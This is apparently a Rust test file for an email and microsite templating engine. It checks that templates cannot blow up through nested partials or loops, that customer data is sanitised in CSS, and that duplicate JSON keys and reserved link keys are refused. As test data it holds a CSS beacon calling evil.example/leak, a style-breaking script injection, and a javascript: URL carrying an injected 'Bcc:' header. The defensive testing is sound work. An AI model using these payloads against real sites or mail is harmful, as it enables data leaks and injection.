//! Templates and documents that cannot blow up or slip through: work and output bounded per
//! customer with the place named, customer data kept to one word in CSS, the links Tessera sets
//! out of reach of merge values, keys given twice refused in every document, and storyboards
//! and audiences held to what they can mean.

use std::collections::HashMap;
use std::path::Path;
use std::time::Duration;

use serde_json::{json, Value};
use tessera_engine::campaigns::{plan_campaign, Campaign, Selector};
use tessera_engine::microsites::SiteTemplate;
use tessera_engine::segments::Rule;
use tessera_engine::templates::{compile_email, Notes};

use crate::support::TestWorkspace;

/// A site of one page whose page includes `partials/p1.html`, each `pN` including the next
/// `times` times and the last holding `leaf`.
fn nested_partials(folder: &Path, levels: usize, times: usize, leaf: &str) {
    std::fs::create_dir_all(folder.join("partials")).unwrap();
    std::fs::write(
        folder.join("site.json"),
        r#"{"format": 1, "name": "Deep", "default_locale": "en", "layout": "layout.html", "pages": [{"file": "index.html", "title": "Home"}]}"#,
    )
    .unwrap();
    std::fs::write(
        folder.join("layout.html"),
        "<!DOCTYPE html>\n<html lang=\"en\"><head><title>x</title></head><body>{{> page}}</body></html>\n",
    )
    .unwrap();
    std::fs::write(folder.join("index.html"), "{{> p1}}\n").unwrap();
    for level in 1..=levels {
        let body = if level == levels {
            leaf.to_string()
        } else {
            format!("{{{{> p{}}}}}\n", level + 1).repeat(times)
        };
        std::fs::write(folder.join(format!("partials/p{level}.html")), body).unwrap();
    }
}

#[test]
fn partials_that_multiply_are_refused_at_the_include_that_goes_too_far() {
    let dir = tempfile::tempdir().unwrap();
    for (leaf, times) in [("<p>x</p>", 60), ("", 60), (&"x".repeat(100_000)[..], 3)] {
        let folder = dir.path().join(format!("deep-{}-{times}", leaf.len()));
        nested_partials(&folder, 5, times, leaf);
        let error = SiteTemplate::load(&folder).err().unwrap().to_string();
        assert!(
            error.contains("grows past 4 MB") || error.contains("more than 10000 times"),
            "{error}"
        );
        assert!(error.contains("partials/p"), "names the file: {error}");
        assert!(error.contains("line "), "names the line: {error}");
    }
    // Sixty of the last level alone is an ordinary page.
    let folder = dir.path().join("fine");
    nested_partials(&folder, 2, 60, "<p>x</p>");
    SiteTemplate::load(&folder).unwrap();
}

#[test]
fn loops_nested_over_one_list_stop_at_a_bound_naming_their_line() {
    let mut source = String::from("<mjml><mj-body><mj-section><mj-column><mj-text>\n");
    for _ in 0..20 {
        source.push_str("{{#each @root.items}}");
    }
    source.push_str("{{this}}");
    for _ in 0..20 {
        source.push_str("{{/each}}");
    }
    source.push_str("\n</mj-text></mj-column></mj-section></mj-body></mjml>\n");
    let template = compile_email(&source).unwrap();
    let data = json!({"items": (0..10).collect::<Vec<_>>()});
    let error = template.render(&data, &mut Notes::default()).unwrap_err();
    assert!(
        error.message.contains("steps") || error.message.contains("MB"),
        "{error}"
    );
    assert_eq!(error.line, 2, "{error}");
    // The same loops over short lists render.
    let small = json!({"items": [1]});
    let html = template.render(&small, &mut Notes::default()).unwrap().html;
    assert!(html.contains('1'));
    // Output alone is bounded too: a long value repeated by one loop.
    let one = "<mjml><mj-body><mj-section><mj-column><mj-text>{{#each items}}{{../long}}{{/each}}</mj-text></mj-column></mj-section></mj-body></mjml>";
    let template = compile_email(one).unwrap();
    let data = json!({"items": (0..100).collect::<Vec<_>>(), "long": "x".repeat(200_000)});
    let error = template.render(&data, &mut Notes::default()).unwrap_err();
    assert!(error.message.contains("8 MB"), "{error}");
}

const BEACON: &str = "red;background:url(https://evil.example/leak?c=1)";

#[test]
fn customer_data_in_css_stays_one_word_and_the_check_says_where() {
    let source = r#"<mjml><mj-head><mj-style>.brand { color: {{color}}; }</mj-style></mj-head><mj-body>
<mj-section background-color="{{color}}"><mj-column>
<mj-text><p style="color: {{color}}">Hi {{first_name}}</p></mj-text>
</mj-column></mj-section></mj-body></mjml>"#;
    let template = compile_email(source).unwrap();
    let css: Vec<&String> = template
        .warnings
        .iter()
        .filter(|w| w.contains("written into CSS"))
        .collect();
    assert!(css.len() >= 2, "{:?}", template.warnings);
    assert!(css.iter().any(|w| w.starts_with("line 3,")), "{css:?}");
    for (value, kept) in [
        (BEACON, false),
        ("#ff0000", true),
        ("rgb(1, 2, 3)", false),
        ("Noto Sans 王", true),
        ("red</style><script>alert(1)</script>", false),
        ("12px", true),
    ] {
        let data = json!({"color": value, "first_name": "Ann;x:y"});
        let html = template.render(&data, &mut Notes::default()).unwrap().html;
        assert_eq!(html.contains(value), kept, "{value}: {html}");
        for forbidden in [
            "url(https://evil",
            "evil.example/leak?",
            "</style><script",
            "background:url",
        ] {
            assert!(!html.contains(forbidden), "{value}: {forbidden} in {html}");
        }
        // Outside CSS a value is only HTML-escaped, as before.
        assert!(html.contains("Hi Ann;x:y"), "{html}");
    }
    // A site's page warns the same, naming its file.
    let dir = tempfile::tempdir().unwrap();
    nested_partials(dir.path(), 1, 1, "");
    std::fs::write(
        dir.path().join("index.html"),
        "<p style=\"color: {{color}}\">Hi</p>\n",
    )
    .unwrap();
    let site = SiteTemplate::load(dir.path()).unwrap();
    let warnings = site.warnings();
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(
        warnings[0].starts_with("index.html, line 1, column"),
        "{warnings:?}"
    );
}

#[test]
fn merge_values_cannot_set_the_links_tessera_sets() {
    for key in [
        "unsubscribe_url",
        "microsite_url",
        "video_url",
        "video_thumbnail_url",
    ] {
        let doc = format!(
            r#"{{"version": 1, "name": "x", "audience": {{"all": true}},
                "variants": [{{"name": "A", "email": "t", "values": {{"{key}": "javascript:alert(1)>\r\nBcc: a@b.c"}}}}]}}"#
        );
        let error = Campaign::parse(&doc).unwrap_err().to_string();
        assert!(
            error.contains(key) && error.contains("Tessera sets"),
            "{error}"
        );
    }
}

#[tokio::test]
async fn absurd_weights_keys_given_twice_and_unknown_ids_are_caught() {
    let weights = r#"{"version": 1, "name": "x", "audience": {"all": true},
        "variants": [{"name": "A", "email": "t", "weight": 1e308}, {"name": "B", "email": "t", "weight": 1e308}]}"#;
    let error = Campaign::parse(weights).unwrap_err().to_string();
    assert!(error.contains("at most 1000000"), "{error}");
    // A key given twice: which one counts depends on the reader; refused everywhere.
    let twice = "{\"version\": 1, \"name\": \"x\", \"audience\": {\"all\": true}, \"holdout\": 0.05,\n \"holdout\": 0.9,\n \"variants\": [{\"name\": \"A\", \"email\": \"t\"}]}";
    let error = Campaign::parse(twice).unwrap_err().to_string();
    assert!(
        error.contains("'holdout' is given twice") && error.contains("line 2"),
        "{error}"
    );
    let rule = r#"{"version": 1, "conditions": [{"type": "consent", "channel": "email", "status": "granted", "status": "denied"}]}"#;
    let error = Rule::parse(rule).unwrap_err().to_string();
    assert!(error.contains("'status' is given twice"), "{error}");
    let board = r#"{"format": 1, "name": "a", "name": "b", "canvas": {"width": 320, "height": 180, "fps": 10}, "start": "s", "scenes": []}"#;
    let (line, _, message) = tessera_engine::storyboards::parse(board).unwrap_err();
    assert!(
        message.contains("'name' is given twice") && line == 1,
        "{message}"
    );
    let dir = tempfile::tempdir().unwrap();
    nested_partials(dir.path(), 1, 1, "");
    std::fs::write(
        dir.path().join("site.json"),
        r#"{"format": 1, "name": "Deep", "default_locale": "en", "default_locale": "zh", "layout": "layout.html", "pages": [{"file": "index.html", "title": "Home"}]}"#,
    )
    .unwrap();
    let error = SiteTemplate::load(dir.path()).err().unwrap().to_string();
    assert!(error.contains("'default_locale' is given twice"), "{error}");

    // Ids that are no customer are not in the audience, and are counted as such.
    let t = TestWorkspace::new().await;
    t.customers(&t.file("c.csv", "email,first_name\nann@example.com,Ann\n"))
        .await;
    t.template("t", "<mjml><mj-body><mj-section><mj-column><mj-text>Hi</mj-text></mj-column></mj-section></mj-body></mjml>").await;
    let named = r#"{"version": 1, "name": "x", "audience": {"customers": [-1, 0, 1, 1, 1, 99]},
        "variants": [{"name": "A", "email": "t"}]}"#;
    let plan = plan_campaign(
        &t.ws.pool,
        Selector::Sql,
        &Campaign::parse(named).unwrap(),
        chrono::Utc::now(),
    )
    .await
    .unwrap();
    assert_eq!(plan.ids, [1]);
    assert_eq!((plan.split.audience, plan.split.unknown_ids), (1, 3));
}

fn board(scenes: Vec<Value>) -> Value {
    json!({"format": 1, "name": "Big", "canvas": {"width": 320, "height": 180, "fps": 10}, "start": "s0", "scenes": scenes})
}

fn errors_of(doc: &Value) -> Vec<String> {
    let board = tessera_engine::storyboards::parse(&doc.to_string()).unwrap();
    tessera_engine::storyboards::check::check(&board, &|_| true)
        .errors
        .iter()
        .map(ToString::to_string)
        .collect()
}

#[test]
fn storyboards_are_held_to_a_length_anyone_watches_and_checked_in_linear_time() {
    // A hundred thousand scenes in a row: refused at once.
    let many: Vec<Value> = (0..100_000)
        .map(|i| json!({"id": format!("s{i}"), "duration": 1, "next": format!("s{}", i + 1)}))
        .collect();
    let started = std::time::Instant::now();
    let errors = errors_of(&board(many));
    assert!(
        errors.iter().any(|e| e.contains("at most 500 scenes")),
        "{errors:?}"
    );
    assert!(started.elapsed() < Duration::from_secs(20));
    // Twenty-four hours of scenes.
    let long: Vec<Value> = (0..144)
        .map(|i| json!({"id": format!("s{i}"), "duration": 600, "next": format!("s{}", i + 1)}))
        .collect();
    let errors = errors_of(&board(long));
    assert!(
        errors.iter().any(|e| e.contains("at most 60 minutes")),
        "{errors:?}"
    );
    // Five hundred short scenes are fine.
    let fine: Vec<Value> = (0..500)
        .map(|i| {
            let next = (i < 499).then(|| format!("s{}", i + 1));
            json!({"id": format!("s{i}"), "duration": 1, "next": next})
        })
        .collect();
    assert_eq!(errors_of(&board(fine)), Vec::<String>::new());
}

#[test]
fn a_count_ends_on_the_number_a_still_text_of_it_shows() {
    use tessera_engine::storyboards::draw::{draw_frame, prepare_scene, Compiled, Images, Pieces};
    use tessera_engine::storyboards::text::Fonts;
    let mut fonts = Fonts::load().unwrap();
    let layer = |animations: Value| json!({"id": "n", "type": "number", "field": "points", "box": {"x": 0, "y": 0, "width": 320, "height": 60}, "animations": animations});
    let doc = json!({"format": 1, "name": "Count", "canvas": {"width": 320, "height": 180, "fps": 10}, "start": "count",
        "scenes": [{"id": "count", "duration": 2, "layers": [layer(json!([{"kind": "count_up", "duration": 1}]))], "next": "still"},
                   {"id": "still", "duration": 2, "layers": [layer(json!([]))]}]});
    let board = tessera_engine::storyboards::parse(&doc.to_string()).unwrap();
    let compiled = Compiled::new(&board).unwrap();
    for points in [
        json!(1e60),
        json!(1e308),
        json!(-1e308),
        json!(123456789),
        json!(2.5),
    ] {
        let data = json!({ "points": points });
        let mut frame = |scene: usize, at: f64| {
            let (prepared, _) = prepare_scene(
                &board,
                &compiled,
                scene,
                &data,
                &mut fonts,
                (&Images::default(), &HashMap::new()),
                &mut Pieces::default(),
                &mut Default::default(),
            );
            let mut pixmap = tiny_skia::Pixmap::new(320, 180).unwrap();
            draw_frame(&prepared, at, &mut fonts, &mut pixmap);
            pixmap
        };
        let (ended, still, blank) = (frame(0, 1.9), frame(1, 1.0), frame(0, 0.0));
        assert_eq!(
            ended.data(),
            still.data(),
            "{points}: the count ends elsewhere"
        );
        assert_ne!(ended.data(), blank.data(), "{points}: nothing drawn");
    }
}

#[test]
fn a_fifo_in_a_site_folder_is_refused_at_once_not_waited_on() {
    let dir = tempfile::tempdir().unwrap();
    nested_partials(dir.path(), 1, 1, "");
    let fifo = dir.path().join("partials/stuck.html");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let folder = dir.path().to_path_buf();
    let (done, result) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = done.send(SiteTemplate::load(&folder).err().map(|e| e.to_string()));
    });
    let error = result
        .recv_timeout(Duration::from_secs(20))
        .expect("the check waited on a FIFO")
        .expect("a FIFO is not a template's file");
    assert!(error.contains("not a regular file"), "{error}");
}

#[test]
fn a_call_to_action_to_another_host_without_a_scheme_is_counted_and_forwarded_by_https() {
    use tessera_engine::microsites::links::route_calls_to_action;
    for href in [
        "//evil.example/x",
        "/\\evil.example/x",
        "\\\\evil.example/x",
    ] {
        let page = format!("<a href=\"{href}\" data-cta=\"offer\">Go</a>");
        let (routed, targets) = route_calls_to_action(&page);
        assert_eq!(
            routed, "<a href=\"go/offer.html\" data-cta=\"offer\">Go</a>",
            "{href}"
        );
        assert_eq!(
            targets,
            [("offer".to_string(), "https://evil.example/x".to_string())]
        );
    }
    // A page of the site itself stays a relative link.
    let (routed, targets) =
        route_calls_to_action("<a href=\"picks.html\" data-cta=\"picks\">P</a>");
    assert!(routed.contains("href=\"picks.html\"") && targets.is_empty());
}
